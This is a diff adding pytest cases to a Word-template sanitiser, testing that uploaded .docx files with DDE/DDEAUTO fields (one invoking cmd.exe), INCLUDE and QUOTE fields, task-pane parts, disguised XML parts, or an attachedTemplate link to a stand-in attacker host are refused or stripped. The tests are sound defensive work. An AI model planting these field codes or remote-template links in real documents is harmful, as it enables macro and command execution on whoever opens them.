@@ -141,10 +141,39 @@ FETCHES = "The template holds a field that fetches something from elsewhere."
         ({"word/_rels/x.xml.rels": relations("image", "file://host/x.png")}, "The template refers to another file: file://host/x.png."),
         ({"word/header9.xml": word('<w:fldSimple w:instr=" DDEAUTO c:\\\\cmd.exe "/>')}, FETCHES),
         ({"word/header9.xml": word("<w:instrText>INCLUDE</w:instrText><w:r/><w:instrText>TEXT x</w:instrText>")}, FETCHES),
+        ({"elsewhere/header9.xml": word('<w:fldSimple w:instr=" DDE x "/>')}, FETCHES),
+        ({"word/header9.xml": word("<w:instrText> QUOTE 68 68 69 65 </w:instrText>")}, FETCHES),
+        ({"word/_rels/x.xml.rels": relations("webextensiontaskpanes", "taskpanes.xml", "Internal")}, "The template holds embedded files."),
     ],
 )
 def test_a_document_with_what_may_not_be_there_is_refused(parts: dict[str, bytes | None], what: str) -> None:
     assert refusal_of(DOCUMENT, changed(DOCX, parts)) == what
+
+
+@pytest.mark.parametrize(
+    "name",
+    ["word/_rels/other.xml.rels", "elsewhere/_rels/settings.xml.rels", "word/_rels/settings.xml.rels"],
+)
+def test_a_link_to_a_template_on_a_server_never_stays(name: str) -> None:
+    """Word fetches it, with its macros, when the document is opened. A > may stand in an address; and no byte says how text is encoded."""
+    quoted = relations("attachedTemplate", "https://evil.example/a>b.dotm").decode()
+    for content in (quoted.replace('Id="rId1" ', ""), quoted.replace("Type=", 'Id2="&gt;>" Type='), quoted.replace("'", '"')):
+        for encoding in ("utf-8", "utf-16"):
+            try:
+                kept = read_template(DOCUMENT, "x", changed(DOCX, {name: content.encode(encoding)})).content
+            except StyleRefused as refused:
+                assert refused.what.english().startswith("The template refers to another file: ")
+                continue
+            with zipfile.ZipFile(io.BytesIO(kept)) as archive:
+                assert not any("evil" in archive.read(part).decode("utf-8", "ignore").replace("\0", "") for part in archive.namelist())
+
+
+def test_a_part_that_is_xml_under_another_name_is_refused() -> None:
+    override = '<Override PartName="/word/header9.bin" ContentType="application/vnd.openxmlformats-officedocument.x.header+xml"/></Types>'
+    content = changed(DOCX, {"word/header9.bin": word('<w:fldSimple w:instr=" DDE x "/>')}, swap=("</Types>", override))
+    assert refusal_of(DOCUMENT, content) == "The template holds a part with a name that is not allowed: /word/header9.bin."
+    default = '<Default Extension="dat" ContentType="application/xml"/></Types>'
+    assert "not allowed: x.dat" in refusal_of(DOCUMENT, changed(DOCX, swap=("</Types>", default)))
 
 
 def test_a_link_to_a_website_and_fields_of_its_own_may_stay() -> None:
